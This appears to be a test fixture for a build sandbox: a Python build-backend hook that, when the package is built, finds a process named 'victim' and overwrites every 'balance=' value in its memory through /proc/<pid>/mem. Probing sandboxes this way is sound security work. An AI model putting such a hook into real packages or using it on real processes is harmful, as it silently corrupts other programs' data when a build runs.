"""Opens another process's memory as a file and overwrites a word in it.

No ptrace(2) is called; the permission that the kernel asks for is the same.
"""

import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("write-memory"):
        victim = kit.find("victim")
        places = [address for address, _ in kit.search_memory(victim, b"balance=")]
        memory = os.open(f"/proc/{victim}/mem", os.O_WRONLY)
        for address in places:
            os.pwrite(memory, b"tampered", address + len("balance="))
        os.close(memory)
    return kit.wheel(wheel_directory)
